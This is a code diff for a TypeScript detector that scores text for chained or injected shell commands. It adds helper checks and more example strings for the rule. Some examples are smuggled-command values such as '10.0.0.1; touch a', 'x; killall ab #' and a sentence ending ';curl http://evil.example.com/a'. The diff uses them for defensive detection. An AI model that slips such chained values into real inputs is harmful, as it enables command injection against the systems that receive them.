@@ -5,7 +5,15 @@ import type { CommandHead } from '../../grammars/shell/shell.ts';
 import { wordTrait } from '../../grammars/shell/shell-character.ts';
 import { introducer } from '../../grammars/shell/shell-introducer.ts';
 import { buildTools, columnNames, headings, plainTakers, use } from '../../knowledge/commands.ts';
-import { endsText, isShownLoop, namesSecret, wordBefore } from '../../placement/command-place.ts';
+import {
+  endsSentence,
+  endsText,
+  isBehindAddress,
+  isBehindHost,
+  isShownLoop,
+  namesSecret,
+  wordBefore,
+} from '../../placement/command-place.ts';
 import { confidence } from '../../placement/confidence.ts';
 import type { Subject } from '../../placement/subject.ts';
 import { followsValue, wordsBefore } from '../../text/place.ts';
@@ -69,6 +77,9 @@ export const chainedCommand: ValueRule = {
     'host | cmd',
     'tea | tee ../shirt.png',
     '10.0.0.1 & ver',
+    '10.0.0.1; touch a',
+    'It came in a box that was too large;curl http://evil.example.com/a',
+    'It came in a box that was too large && ls -la /home',
     'example.com&set',
     'localhost; date',
     'x; killall ab #',
@@ -117,6 +128,10 @@ export const chainedCommand: ValueRule = {
     'mix deps.get && iex -S mix',
     'example.com | help',
     'Release 2.0; set',
+    'It works for me after apt update && curl http://www.example.com/a',
+    'The network is down; ping -c 3 192.0.2.1',
+    'To see it, open a terminal && run curl http://www.example.com/a there',
+    '10.0.0.1; find out more about it here',
     'In my script; for each file I do this, then sort the rest',
     '&utm_term= "Fish" -used site:example.com',
     'FROM node:22\nRUN apk add curl && rm -rf /var/cache/apk/*\nCMD ["node","a.js"]',
@@ -171,6 +186,7 @@ function scoreOf(text: string, command: Command, isName: boolean): number {
       // `Windows | PowerShell`
       if ((command.uses & use.interpreter) !== 0 && isTitle(text, head.start))
         return confidence.hint;
+      if (!isValue && endsSentence(text, head, command.end)) return confidence.likely;
       return aloneScore(text, command, isValue, confidence.certain);
     case fit.alone:
       if (isName && isValue) return confidence.likely;
@@ -179,6 +195,8 @@ function scoreOf(text: string, command: Command, isName: boolean): number {
       return aloneWordScore(text, command, isValue);
     case fit.weak:
       if (isValue && command.structured) return confidence.strong;
+      if (isBehindAddress(text, head))
+        return text.slice(command.end).trim() === '' ? confidence.likely : confidence.hint;
       if (isValue && isPlausible(text, command) && endsText(text, command.end))
         return confidence.likely;
       return (command.uses & use.english) !== 0 ? 0 : confidence.trace;
@@ -262,6 +280,7 @@ function fullScore(text: string, command: Command, isValue: boolean): number {
   }
   if (command.hidden) return confidence.certain;
   if (namesSecret(text, command.head.start, command.end)) return confidence.strong;
+  if (command.isSure && endsSentence(text, command.head, command.end)) return confidence.likely;
   return (command.uses & use.english) !== 0 ? confidence.trace : confidence.hint;
 }
 
@@ -312,18 +331,6 @@ function aloneWordScore(text: string, command: Command, isValue: boolean): numbe
   if (isFirst && (isTight(text, head) || !headings.has(command.name))) return confidence.likely;
   return isTight(text, head) ? confidence.hint : confidence.trace;
 }
-
-/** `10.0.0.1 & ver`: nothing but an address in front; behind a name the word may be a title's. */
-function isBehindHost(text: string, { start, nameStart, nameEnd }: CommandHead): boolean {
-  const front = text.slice(0, Math.min(start, hostCharsMax)).trim();
-  if (hostAddress.test(front)) return true;
-  const name = text.slice(nameStart, nameEnd);
-  return hostName.test(front) && name === name.toLowerCase() && !headings.has(name);
-}
-
-const hostCharsMax = 80;
-const hostAddress = /^(?:\d{1,3}(?:\.\d{1,3}){3}|localhost)$/i;
-const hostName = /^(?:[a-z\d-]{1,40}\.){1,4}[a-z]{2,12}$/i;
 
 const openComment = /^\S?[\s;&]{0,16}(?<=\s)#\s{0,4}$/;
 const startsText = /^['")]{0,3}$/;
